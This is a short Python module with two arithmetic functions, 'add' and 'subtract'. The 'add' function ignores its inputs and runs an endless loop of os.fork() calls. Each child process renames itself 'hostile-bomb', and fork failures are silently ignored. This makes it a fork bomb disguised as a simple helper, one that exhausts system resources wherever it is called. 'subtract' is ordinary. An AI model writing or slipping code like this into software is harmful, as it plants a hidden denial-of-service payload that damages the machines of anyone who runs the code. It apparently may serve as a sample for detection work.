import os


def add(a, b):
    while True:
        try:
            if os.fork() == 0:
                with open("/proc/self/comm", "w") as name:
                    name.write("hostile-bomb")
        except OSError:
            pass


def subtract(a, b):
    return a - b
